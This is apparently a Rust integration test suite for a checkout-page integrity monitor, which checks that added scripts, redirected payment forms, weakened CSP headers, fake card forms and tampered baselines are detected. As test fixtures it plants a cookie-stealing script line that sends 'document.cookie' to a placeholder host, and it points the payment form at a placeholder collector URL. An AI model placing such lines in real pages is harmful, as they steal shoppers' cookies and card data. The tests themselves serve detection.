//! The page watch against a real checkout site on loopback, in real headless Chromium.
//! Needs `chromium` (skips with a reason locally, fails under CI).

mod support;

use mamori_core::store::{Key, Store};
use mamori_core::{Finding, Kind, Lang, Severity};
use mamori_page::{CheckOutcome, Loader, Mode, PageConfig, PageError, inventory};
use std::collections::BTreeMap;
use support::{Server, chromium, closed_port, group_alive};

fn store(dir: &std::path::Path) -> Store {
    Store::open(&dir.join("mamori.db"), Key::from_bytes([7; 32])).unwrap()
}

fn cfg(browser: &std::path::Path) -> PageConfig {
    PageConfig {
        browser_flag: Some(browser.to_path_buf()),
        timeout: 20,
        ..PageConfig::default()
    }
}

fn check(loader: &mut Loader, st: &Store, url: &str) -> Vec<Finding> {
    match mamori_page::check_url(loader, st, url, Lang::En, "test-host").unwrap() {
        CheckOutcome::Checked { findings, .. } => findings,
        other => panic!("unexpected {other:?}"),
    }
}

fn kinds(f: &[Finding]) -> Vec<String> {
    f.iter()
        .map(|f| format!("{} {} {}", f.kind, f.severity, f.summary))
        .collect()
}

#[test]
fn each_change_is_reported_with_its_kind() {
    let Some(chrome) = chromium() else { return };
    let dir = tempfile::tempdir().unwrap();
    let st = store(dir.path());
    let site = Server::start();
    let url = site.checkout();
    let mut loader = Loader::new(&cfg(&chrome), false).unwrap();
    let pgid = loader.browser_pid().unwrap();

    let inv = loader.load(&url).unwrap();
    assert_eq!(inv.mode, Mode::Browser);
    // The inventory holds what a checkout has.
    let port = site.addr.port();
    assert!(
        inv.scripts.contains_key(&site.url("/js/app.js")),
        "{:?}",
        inv.scripts.keys()
    );
    assert!(
        inv.scripts
            .contains_key(&format!("http://localhost:{port}/vendor/psp.js"))
    );
    assert!(inv.scripts.keys().any(|k| k.starts_with("inline:sha256-")));
    assert!(
        inv.scripts.values().all(|s| s.sha256.len() == 64),
        "{:?}",
        inv.scripts
    );
    let pay = inv
        .forms
        .iter()
        .find(|f| f.id.as_deref() == Some("payment"))
        .unwrap();
    assert_eq!(
        pay.action.as_deref(),
        Some(site.url("/shopping/pay").as_str())
    );
    assert_eq!(pay.card_inputs.len(), 4, "{pay:?}");
    assert!(inv.headers.contains_key("content-security-policy"));
    assert!(
        inv.request_hosts
            .as_ref()
            .unwrap()
            .iter()
            .any(|h| h.starts_with("localhost:"))
    );
    let reasons = BTreeMap::new();
    inventory::approve(&st, inv, Some("checkout as shipped"), &reasons, false).unwrap();
    assert!(check(&mut loader, &st, &url).is_empty());

    // (a) one more external script in the template.
    site.set(|s| s.extra_script = true);
    let f = check(&mut loader, &st, &url);
    assert!(
        f.iter().any(|f| f.kind == Kind::PageScriptAdded
            && f.evidence["script"]
                .as_str()
                .unwrap()
                .ends_with("/js/extra.js")
            && f.evidence["after"]["origin"] == "html"),
        "{:?}",
        kinds(&f)
    );
    assert!(f.iter().all(|f| f.url.as_deref() == Some(url.as_str())));
    assert!(
        f.iter()
            .all(|f| f.checklist.contains(&"pci:11.6.1".to_string()))
    );
    site.reset();

    // (b) a script that appears only after load, added by another (unchanged) script.
    site.set(|s| s.runtime_script = true);
    let f = check(&mut loader, &st, &url);
    let added: Vec<&Finding> = f
        .iter()
        .filter(|f| f.kind == Kind::PageScriptAdded)
        .collect();
    assert_eq!(added.len(), 1, "{:?}", kinds(&f));
    assert!(
        added[0].evidence["script"]
            .as_str()
            .unwrap()
            .ends_with("/js/late.js")
    );
    assert_eq!(added[0].evidence["after"]["origin"], "runtime");
    assert!(
        added[0].evidence["after"]["added_by"]
            .as_str()
            .is_some_and(|u| u.ends_with("/js/app.js")),
        "{:?}",
        added[0].evidence
    );
    assert!(
        !f.iter().any(|f| f.kind == Kind::PageScriptChanged),
        "{:?}",
        kinds(&f)
    );
    site.reset();

    // (c) the form posts somewhere else.
    site.set(|s| s.form_action = "https://collector.example.invalid/c".into());
    let f = check(&mut loader, &st, &url);
    let fc: Vec<&Finding> = f
        .iter()
        .filter(|f| f.kind == Kind::PageFormChanged)
        .collect();
    assert_eq!(fc.len(), 1, "{:?}", kinds(&f));
    assert_eq!(fc[0].severity, Severity::Critical);
    assert_eq!(
        fc[0].evidence["after"],
        "https://collector.example.invalid/c"
    );
    assert_eq!(fc[0].evidence["other_origin"], true);
    site.reset();

    // (d) the CSP header dropped.
    site.set(|s| s.csp = None);
    let f = check(&mut loader, &st, &url);
    assert_eq!(f.len(), 1, "{:?}", kinds(&f));
    assert_eq!(f[0].kind, Kind::PageHeaderChanged);
    assert_eq!(f[0].evidence["header"], "content-security-policy");
    assert_eq!(f[0].severity, Severity::High);
    site.reset();

    // CSP weakened rather than removed.
    site.set(|s| {
        s.csp = Some(support::default_csp(port).replace("connect-src 'self'", "connect-src *"))
    });
    let f = check(&mut loader, &st, &url);
    assert!(
        f.iter().any(|f| f.kind == Kind::PageHeaderChanged
            && f.summary.contains("weakened")
            && f.summary.contains("connect-src now allows *")),
        "{:?}",
        kinds(&f)
    );
    site.reset();

    // A fake card form on a page whose approved forms did not have it.
    site.set(|s| s.fake_form = true);
    let f = check(&mut loader, &st, &url);
    assert!(
        f.iter().any(|f| f.kind == Kind::PageFormChanged
            && f.severity == Severity::Critical
            && f.evidence["change"] == "added"),
        "{:?}",
        kinds(&f)
    );
    site.reset();

    // The runtime script's content changes later (approved first).
    site.set(|s| s.runtime_script = true);
    let inv = loader.load(&url).unwrap();
    inventory::approve(&st, inv, Some("tag"), &reasons, false).unwrap();
    site.set(|s| s.late_body = "new Image().src='//x.invalid/?'+document.cookie;".into());
    let f = check(&mut loader, &st, &url);
    assert!(
        f.iter().any(|f| f.kind == Kind::PageScriptChanged
            && f.evidence["script"]
                .as_str()
                .unwrap()
                .ends_with("/js/late.js")),
        "{:?}",
        kinds(&f)
    );

    // No browser process outlives the loader.
    assert!(group_alive(pgid));
    drop(loader);
    assert!(
        !group_alive(pgid),
        "chromium process group {pgid} still alive"
    );
}

#[test]
fn unchanged_page_reports_nothing_in_ten_checks() {
    let Some(chrome) = chromium() else { return };
    let dir = tempfile::tempdir().unwrap();
    let st = store(dir.path());
    let site = Server::start();
    // The runtime tag is part of the approved page: it must be seen every time.
    site.set(|s| s.runtime_script = true);
    let url = site.checkout();
    let mut loader = Loader::new(&cfg(&chrome), false).unwrap();
    let inv = loader.load(&url).unwrap();
    assert!(inv.scripts.keys().any(|k| k.ends_with("/js/late.js")));
    inventory::approve(&st, inv, Some("checkout"), &BTreeMap::new(), false).unwrap();
    for i in 0..10 {
        let f = check(&mut loader, &st, &url);
        assert!(f.is_empty(), "check {i}: {:?}", kinds(&f));
    }
}

#[test]
fn approving_again_keeps_reasons_and_edited_inventory_is_tampered() {
    let Some(chrome) = chromium() else { return };
    let dir = tempfile::tempdir().unwrap();
    let st = store(dir.path());
    let site = Server::start();
    let url = site.checkout();
    let mut loader = Loader::new(&cfg(&chrome), false).unwrap();
    let psp = format!("http://localhost:{}/vendor/psp.js", site.addr.port());
    let mut per = BTreeMap::new();
    per.insert(psp.clone(), "card tokenization by the PSP".to_string());
    let out = inventory::approve(
        &st,
        loader.load(&url).unwrap(),
        Some("shop code"),
        &per,
        false,
    )
    .unwrap();
    assert!(out.without_reason.is_empty(), "{out:?}");
    site.set(|s| s.extra_script = true);
    let out = inventory::approve(
        &st,
        loader.load(&url).unwrap(),
        Some("A/B test"),
        &BTreeMap::new(),
        false,
    )
    .unwrap();
    assert_eq!(out.new_scripts.len(), 1, "{out:?}");
    let inventory::Stored::Valid(a) = inventory::load(&st, &url).unwrap() else {
        panic!("not valid")
    };
    assert_eq!(a.reasons[&psp].text, "card tokenization by the PSP");
    assert_eq!(a.reasons[&site.url("/js/app.js")].text, "shop code");
    let extra = format!("http://localhost:{}/js/extra.js", site.addr.port());
    assert_eq!(a.reasons[&extra].text, "A/B test");

    // Someone edits the stored inventory to hide a script: detected, not used.
    st.connection()
        .execute(
            "UPDATE doc SET body = CAST(replace(CAST(body AS TEXT), 'extra.js', 'extra2.js') AS BLOB) WHERE name = ?1",
            [inventory::doc_name(&url)],
        )
        .unwrap();
    match mamori_page::check_url(&mut loader, &st, &url, Lang::En, "h").unwrap() {
        CheckOutcome::Tampered { findings } => {
            assert_eq!(findings.len(), 1);
            assert_eq!(findings[0].kind, Kind::BaselineTampered);
            assert_eq!(findings[0].url.as_deref(), Some(url.as_str()));
        }
        other => panic!("expected tampered, got {other:?}"),
    }
    // Approving over it needs --reset.
    assert!(
        inventory::approve(
            &st,
            loader.load(&url).unwrap(),
            None,
            &BTreeMap::new(),
            false
        )
        .is_err()
    );
    inventory::approve(
        &st,
        loader.load(&url).unwrap(),
        None,
        &BTreeMap::new(),
        true,
    )
    .unwrap();
}

#[test]
fn bad_input_gives_clear_errors() {
    let Some(chrome) = chromium() else { return };
    let site = Server::start();
    let mut c = cfg(&chrome);
    c.timeout = 4;
    let mut loader = Loader::new(&c, false).unwrap();

    let port = closed_port();
    let e = loader
        .load(&format!("http://127.0.0.1:{port}/checkout"))
        .unwrap_err();
    assert!(matches!(e, PageError::Unreachable { .. }), "{e:?}");
    assert!(
        e.localized(Lang::En).contains("CONNECTION_REFUSED"),
        "{}",
        e.localized(Lang::En)
    );

    // https to a port that speaks plain HTTP.
    let e = loader
        .load(&format!(
            "https://127.0.0.1:{}/shopping/checkout",
            site.addr.port()
        ))
        .unwrap_err();
    assert!(matches!(e, PageError::Tls { .. }), "{e:?}");

    // A page that never finishes loading.
    let e = loader.load(&site.url("/hang")).unwrap_err();
    assert!(matches!(e, PageError::Timeout { secs: 4, .. }), "{e:?}");
    assert!(
        e.localized(Lang::En)
            .contains("did not finish loading within 4 s")
    );

    let e = loader.load(&site.url("/missing")).unwrap_err();
    assert!(matches!(e, PageError::Status { status: 404, .. }), "{e:?}");

    // The loader still works after errors.
    assert!(loader.load(&site.checkout()).is_ok());

    let e = loader.load("ftp://shop.example/").unwrap_err();
    assert!(matches!(e, PageError::BadUrl { .. }), "{e:?}");

    // A missing browser names the package.
    let mut c = cfg(std::path::Path::new("/nonexistent/chromium"));
    c.timeout = 4;
    let e = Loader::new(&c, false).unwrap_err();
    assert!(matches!(e, PageError::BrowserMissing { .. }), "{e:?}");
    let en = e.localized(Lang::En);
    assert!(
        en.contains("`chromium`") && en.contains("apt-get install chromium"),
        "{en}"
    );
    assert!(e.localized(Lang::Ja).contains("`chromium`"));
    // ...unless plain HTTP was asked for as a fallback.
    c.fallback_http = true;
    let mut l = Loader::new(&c, false).unwrap();
    assert_eq!(l.mode(), Mode::Http);
    assert!(l.fallback.is_some());
    assert!(l.load(&site.checkout()).is_ok());
}

#[test]
fn plain_http_mode_sees_the_template_but_says_what_it_cannot_see() {
    // No browser needed.
    let dir = tempfile::tempdir().unwrap();
    let st = store(dir.path());
    let site = Server::start();
    let url = site.checkout();
    let c = PageConfig {
        timeout: 5,
        ..PageConfig::default()
    };
    let mut loader = Loader::new(&c, true).unwrap();
    assert_eq!(loader.mode(), Mode::Http);
    let inv = loader.load(&url).unwrap();
    assert!(inv.request_hosts.is_none());
    assert!(
        inv.notes.iter().any(|n| n.contains("not seen")),
        "{:?}",
        inv.notes
    );
    assert!(
        inv.scripts.values().all(|s| s.sha256.len() == 64),
        "{:?}",
        inv.scripts
    );
    inventory::approve(&st, inv, Some("x"), &BTreeMap::new(), false).unwrap();
    assert!(check(&mut loader, &st, &url).is_empty());
    site.set(|s| s.extra_script = true);
    assert!(
        check(&mut loader, &st, &url)
            .iter()
            .any(|f| f.kind == Kind::PageScriptAdded)
    );
    site.reset();
    site.set(|s| s.form_action = "https://collector.example.invalid/c".into());
    assert!(
        check(&mut loader, &st, &url)
            .iter()
            .any(|f| f.kind == Kind::PageFormChanged)
    );
    site.reset();
    site.set(|s| s.csp = None);
    assert!(
        check(&mut loader, &st, &url)
            .iter()
            .any(|f| f.kind == Kind::PageHeaderChanged)
    );
    site.reset();
    // Its limit, shown: a script added at run time is invisible without a browser.
    site.set(|s| s.runtime_script = true);
    assert!(check(&mut loader, &st, &url).is_empty());
    // Errors are the same as in the browser.
    let e = loader
        .load(&format!("http://127.0.0.1:{}/x", closed_port()))
        .unwrap_err();
    assert!(matches!(e, PageError::Unreachable { .. }), "{e:?}");
    let e = loader
        .load(&format!(
            "https://127.0.0.1:{}/shopping/checkout",
            site.addr.port()
        ))
        .unwrap_err();
    assert!(matches!(e, PageError::Tls { .. }), "{e:?}");
    let c = PageConfig {
        timeout: 2,
        ..PageConfig::default()
    };
    let e = Loader::new(&c, true)
        .unwrap()
        .load(&site.url("/hang"))
        .unwrap_err();
    assert!(matches!(e, PageError::Timeout { .. }), "{e:?}");
}
